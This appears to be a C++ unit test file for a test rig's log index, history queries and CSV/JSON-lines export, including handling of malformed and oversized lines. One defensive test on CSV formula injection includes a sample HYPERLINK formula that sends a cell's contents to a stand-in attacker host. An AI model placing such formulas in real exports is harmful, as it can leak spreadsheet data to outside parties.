// The record's index and the questions asked of it: lines taken in as the file grows, starting
// over when it shrinks or is replaced, a torn last line left for later, hostile lines counted
// and skipped; filters, pages newest first, totals per lane and day; the exports read back.
#include "history_query.h"
#include "json_text.h"
#include "record.h"
#include "record_export.h"
#include "record_index.h"
#include "record_json.h"
#include "rig_files.h"

#include <gtest/gtest.h>

#include <fstream>
#include <vector>

namespace pxr7 {
namespace {

std::string lineOf(const std::string& result, const std::string& serial,
                   const std::string& finished = "2026-12-08T09:30:05Z",
                   const std::string& unit = "", const std::string& lane = "") {
    RecordEntry entry;
    entry.command = "station";
    entry.started = finished;
    entry.finished = finished;
    entry.leadSerial = serial;
    entry.leadIndex = 2;
    entry.result = result;
    entry.unitId = unit;
    entry.laneName = lane;
    return recordLine(entry) + "\n";
}

void append(const std::string& path, const std::string& text) {
    std::ofstream(path, std::ios::binary | std::ios::app) << text;
}

std::vector<std::size_t> numbers(const std::vector<const IndexedLine*>& lines) {
    std::vector<std::size_t> out;
    for (const IndexedLine* line : lines) {
        out.push_back(line->number);
    }
    return out;
}

std::vector<std::size_t> numbers(const RecordIndex& index) {
    std::vector<std::size_t> out;
    for (const IndexedLine& line : index.lines()) {
        out.push_back(line.number);
    }
    return out;
}

TEST(RecordIndex, FollowsTheFileAsItGrowsIsCutOrReplaced) {
    const std::string good = lineOf("ok", "PX1");
    const struct {
        const char* what;
        bool replace; // write the file anew instead of appending
        std::string text;
        std::vector<std::size_t> lines;
        std::size_t unreadable;
        bool startedOver;
    } steps[] = {
        {"missing file", false, "", {}, 0, false},
        {"two lines and a blank", false, good + " \r\n" + good, {1, 3}, 0, false},
        {"a torn line waits", false, "{\"schema\":1,\"res", {1, 3}, 0, false},
        {"its end arrives", false, "ult\":\"busy\"}\n", {1, 3, 4}, 0, false},
        {"garbage", false, "not json\n", {1, 3, 4}, 1, false},
        {"cut shorter", true, good, {1}, 0, true},
        {"replaced, same size", true, lineOf("ok", "PX2"), {1}, 0, true},
        {"replaced, larger", true, lineOf("ok", "PX3") + good, {1, 2}, 0, true},
    };
    simrig::ScratchFolder scratch;
    const std::string path = scratch.path("record.jsonl");
    RecordIndex index(path);
    for (const auto& step : steps) {
        if (step.replace) {
            simrig::writeFile(path, step.text);
        } else if (!step.text.empty()) {
            append(path, step.text);
        }
        const auto before = index.generation();
        std::string problem;
        ASSERT_TRUE(index.refresh(problem)) << step.what << ": " << problem;
        EXPECT_EQ(numbers(index), step.lines) << step.what;
        EXPECT_EQ(index.unreadable(), step.unreadable) << step.what;
        EXPECT_EQ(index.generation() != before, step.startedOver) << step.what;
    }
    EXPECT_EQ(index.lines()[0].entry.leadSerial, "PX3");
    std::string problem;
    EXPECT_FALSE(RecordIndex(scratch.folder()).refresh(problem)) << "a folder is no record";
}

TEST(RecordIndex, HostileLinesAreCountedAndTheLinesAfterThemKept) {
    const std::string good = lineOf("ok", "PX1");
    const struct {
        const char* what;
        std::string line;
    } hostile[] = {
        {"array", "[1,2,3]"},
        {"nested 1000 deep", std::string(1000, '[') + std::string(1000, ']')},
        {"1 MB of text", "{\"schema\":1,\"result\":\"" + std::string(1 << 20, 'x')},
        {"5 MB, past the limit", std::string(5 << 20, '{')},
        {"binary bytes", std::string("\0\xff\x01{\"\x80", 6)},
        {"schema 2", "{\"schema\":2,\"result\":\"ok\"}"},
    };
    simrig::ScratchFolder scratch;
    const std::string path = scratch.path("record.jsonl");
    std::string text;
    for (const auto& line : hostile) {
        text += line.line + "\n" + good;
    }
    simrig::writeFile(path, text);
    RecordIndex index(path);
    std::string problem;
    ASSERT_TRUE(index.refresh(problem)) << problem;
    EXPECT_EQ(numbers(index), (std::vector<std::size_t>{2, 4, 6, 8, 10, 12}));
    EXPECT_EQ(index.unreadable(), 6u);
    std::string back;
    ASSERT_TRUE(index.readBack(
        {&index.lines()[3]}, [&](auto&, auto& bytes) { back = bytes; }, problem));
    EXPECT_EQ(back + "\n", good);
}

// Lines 1..7: lanes, results, units and days to filter on.
std::string filterRecord() {
    return lineOf("ok", "PXA", "2026-12-07T23:59:59Z", "U-1") +
           lineOf("busy", "PXB", "2026-12-08T00:00:00Z") + "\n" +
           lineOf("current", "", "2026-12-08T10:00:00Z", "U-2") +
           lineOf("ok", "PXA", "2026-12-09T08:00:00Z", "", "Fixture A") +
           lineOf("transfer_stopped", "PXA", "2026-12-09T09:00:00Z", "U-1") +
           lineOf("ok", "PXB", "garbled");
}

TEST(HistoryQuery, FiltersSelectTheirLinesNewestFirst) {
    const struct {
        const char* what;
        HistoryFilter filter;
        std::vector<std::size_t> lines;
    } cases[] = {
        {"none", {}, {7, 6, 5, 4, 2, 1}},
        {"result ok", {"ok", "", "", "", ""}, {7, 5, 1}},
        {"failed", {"failed", "", "", "", ""}, {6, 2}},
        {"lane by serial", {"", "PXA", "", "", ""}, {6, 1}},
        {"lane by name", {"", "Fixture A", "", "", ""}, {5}},
        {"lane by bridge", {"", "bridge 2", "", "", ""}, {4}},
        {"unit", {"", "", "U-1", "", ""}, {6, 1}},
        {"from", {"", "", "", "2026-12-08", ""}, {6, 5, 4, 2}},
        {"to", {"", "", "", "", "2026-12-08"}, {4, 2, 1}},
        {"one day", {"", "", "", "2026-12-08", "2026-12-08"}, {4, 2}},
        {"combined", {"failed", "PXA", "U-1", "2026-12-09", ""}, {6}},
        {"unknown lane", {"", "PXZ", "", "", ""}, {}},
        {"none matching", {"ok", "PXB", "", "2026-12-01", "2026-12-08"}, {}},
    };
    simrig::ScratchFolder scratch;
    simrig::writeFile(scratch.path("r"), filterRecord());
    RecordIndex index(scratch.path("r"));
    HistoryQuery query(index);
    std::string problem;
    ASSERT_TRUE(index.refresh(problem));
    for (const auto& c : cases) {
        const HistoryPage page = query.page(c.filter, 1, 50);
        EXPECT_EQ(numbers(page.lines), c.lines) << c.what;
        EXPECT_EQ(page.total, c.lines.size()) << c.what;
        auto oldestFirst = c.lines;
        std::reverse(oldestFirst.begin(), oldestFirst.end());
        EXPECT_EQ(numbers(query.matching(c.filter)), oldestFirst) << c.what;
    }
    const HistoryPage all = query.page({}, 1, 50);
    EXPECT_EQ(all.results, (std::vector<std::string>{"busy", "current", "ok", "transfer_stopped"}));
    EXPECT_EQ(all.laneLabels, (std::vector<std::string>{"Fixture A", "PXA", "PXB", "bridge 2"}));
    EXPECT_TRUE(query.knownResult("handshake_timeout"));
    EXPECT_FALSE(query.knownResult("oops"));
}

TEST(HistoryQuery, PagesCutTheMatchesNewestFirst) {
    const struct {
        std::size_t page, perPage;
        std::vector<std::size_t> lines;
        std::size_t pages;
    } cases[] = {
        {1, 3, {7, 6, 5}, 3}, {3, 3, {1}, 3},
        {4, 3, {}, 3},        {1, 500, {7, 6, 5, 4, 3, 2, 1}, 1},
        {2, 1, {6}, 7},       {1000000000, 500, {}, 1},
    };
    simrig::ScratchFolder scratch;
    std::string text;
    for (int i = 0; i < 7; ++i) {
        text += lineOf("ok", "PX");
    }
    simrig::writeFile(scratch.path("r"), text);
    RecordIndex index(scratch.path("r"));
    HistoryQuery query(index);
    std::string problem;
    ASSERT_TRUE(index.refresh(problem));
    for (const auto& c : cases) {
        const HistoryPage page = query.page({}, c.page, c.perPage);
        EXPECT_EQ(numbers(page.lines), c.lines) << c.page << " of " << c.perPage;
        EXPECT_EQ(page.pages, c.pages) << c.page << " of " << c.perPage;
    }
}

TEST(HistoryQuery, TotalsPerLaneInOrderOfAppearanceAndPerDayNewestFirst) {
    simrig::ScratchFolder scratch;
    simrig::writeFile(scratch.path("r"), filterRecord());
    RecordIndex index(scratch.path("r"));
    HistoryQuery query(index);
    std::string problem;
    ASSERT_TRUE(index.refresh(problem));
    auto flat = [](const std::vector<ResultCounts>& counts) {
        std::vector<std::string> out;
        for (const ResultCounts& c : counts) {
            out.push_back(c.key + " " + std::to_string(c.ok) + "/" + std::to_string(c.current) +
                          "/" + std::to_string(c.failed));
        }
        return out;
    };
    HistoryPage page = query.page({}, 1, 1);
    EXPECT_EQ(flat(page.lanes), (std::vector<std::string>{"PXA 1/0/1", "PXB 1/0/1",
                                                          "bridge 2 0/1/0", "Fixture A 1/0/0"}));
    EXPECT_EQ(flat(page.days), (std::vector<std::string>{"2026-12-09 1/0/1", "2026-12-08 0/1/1",
                                                         "2026-12-07 1/0/0", " 1/0/0"}));
    page = query.page({"", "PXB", "", "", ""}, 1, 1);
    EXPECT_EQ(flat(page.lanes), (std::vector<std::string>{"PXB 1/0/1"}));
    EXPECT_EQ(page.laneLabels.size(), 4u) << "choices are over the whole record";
}

// RFC 4180 rows back as fields.
std::vector<std::vector<std::string>> parseCsv(const std::string& text) {
    std::vector<std::vector<std::string>> rows(1, std::vector<std::string>(1));
    bool quoted = false;
    for (std::size_t i = 0; i < text.size(); ++i) {
        const char c = text[i];
        if (quoted && c == '"' && i + 1 < text.size() && text[i + 1] == '"') {
            rows.back().back() += '"';
            ++i;
        } else if (c == '"') {
            quoted = !quoted;
        } else if (!quoted && c == ',') {
            rows.back().emplace_back();
        } else if (!quoted && c == '\r' && i + 1 < text.size() && text[i + 1] == '\n') {
            rows.emplace_back(1);
            ++i;
        } else {
            rows.back().back() += c;
        }
    }
    rows.pop_back(); // after the last CRLF
    return rows;
}

TEST(RecordExport, CsvReadsBackAsTheRecordAndJsonLinesAreItsBytes) {
    RecordEntry entry;
    entry.command = "station";
    entry.leadSerial = "PX\"1\",\r\n2";
    entry.unitId = "Zähler-Ü";                         // UTF-8 typed by an operator
    entry.versionBefore = std::string("V\xb5\x01", 3); // a meter's single bytes
    entry.result = "ok";
    entry.seconds = 4.412;
    const std::string text = recordLine(entry) + "\n" + "{\"schema\":1,\"result\":\"x,y\"}\n" +
                             "\n" + lineOf("busy", "PX9");
    simrig::ScratchFolder scratch;
    simrig::writeFile(scratch.path("r"), text);
    RecordIndex index(scratch.path("r"));
    HistoryQuery query(index);
    std::string problem, csv, jsonl;
    ASSERT_TRUE(index.refresh(problem));
    const auto lines = query.matching({});
    ASSERT_TRUE(recordCsv(index, lines, csv, problem)) << problem;
    ASSERT_TRUE(recordJsonLines(index, lines, jsonl, problem)) << problem;
    EXPECT_EQ(jsonl, text.substr(0, text.find("\n\n") + 1) + lineOf("busy", "PX9"));

    const auto rows = parseCsv(csv);
    ASSERT_EQ(rows.size(), 4u) << csv;
    const std::vector<const char*> keys = recordKeyNames();
    ASSERT_EQ(rows[0].size(), keys.size());
    EXPECT_EQ(rows[0][0], "bench");
    EXPECT_EQ(rows[0].back(), "backend");
    const JsonValue first = parseJsonLine(recordLine(entry));
    for (std::size_t k = 0; k < keys.size(); ++k) {
        ASSERT_EQ(rows[1].size(), keys.size());
        const JsonValue& value = first[keys[k]];
        const std::string key = keys[k];
        const bool name = key == "bench" || key == "lane_name" || key == "unit_id";
        const std::string expected = value.is_null()     ? ""
                                     : value.is_string() ? (name ? nameOf(value) : textOf(value))
                                                         : jsonLine(value);
        if (std::string(keys[k]) != "version_before") {
            EXPECT_EQ(rows[1][k], expected) << keys[k];
        }
    }
    EXPECT_EQ(rows[1][7], "-1");
    EXPECT_EQ(rows[1][12], "V\xc2\xb5\x01") << "not UTF-8: its characters as UTF-8";
    EXPECT_EQ(rows[2][11], "x,y");
    EXPECT_EQ(rows[2][0], "") << "missing keys are empty";
}

// What a spreadsheet would run is quoted with "'"; numbers, other texts and ?exact=1 as
// they are.
TEST(RecordExport, CellsASpreadsheetWouldRunAsAFormulaAreShownAsText) {
    const std::string hyperlink = R"(=HYPERLINK("http://evil.example/?"&A1,"U-1"))";
    const struct {
        JsonValue value;
        std::string safe, exact;
    } cases[] = {
        {hyperlink, "'" + hyperlink, hyperlink},
        {"+1", "'+1", "+1"},
        {"-1.5", "'-1.5", "-1.5"}, // a text, though it looks like a number
        {"@SUM(A1)", "'@SUM(A1)", "@SUM(A1)"},
        {"\tx", "'\tx", "\tx"},
        {"\rx", "'\rx", "\rx"},
        {"\xc3\xa9=1", "\xc3\xa9=1", "\xc3\xa9=1"}, // only the first character counts
        {" =1", " =1", " =1"},
        {"U-1", "U-1", "U-1"},
        {"", "", ""},
        {-1.5, "-1.5", "-1.5"}, // a number of the line: never a formula, and it adds up
        {-1, "-1", "-1"},
        {nullptr, "", ""},
        {"=Pr\xc3\x83\xc2\xbc", "'=Pr\xc3\xbc", "=Pr\xc3\xbc"}, // a name written as its bytes
        {"V\xc2\xb5", "V\xc2\xb5", "V\xc2\xb5"},                // a meter's byte B5, not UTF-8
    };
    for (const auto& c : cases) {
        EXPECT_EQ(csvCell(c.value, CsvCells::Safe), c.safe) << jsonLine(c.value);
        EXPECT_EQ(csvCell(c.value, CsvCells::Exact), c.exact) << jsonLine(c.value);
    }
    // The row the database's export writes goes through the same cells.
    const std::string line = R"({"schema":1,"unit_id":"=1+1","duration_s":-2.5,"result":"ok"})";
    std::string safe, exact;
    appendRecordCsvRow(line, safe);
    appendRecordCsvRow(line, exact, CsvCells::Exact);
    EXPECT_NE(safe.find(",'=1+1,ok,"), std::string::npos) << safe;
    EXPECT_NE(safe.find(",-2.5,"), std::string::npos) << safe;
    EXPECT_NE(exact.find(",=1+1,ok,"), std::string::npos) << exact;
}

} // namespace
} // namespace pxr7
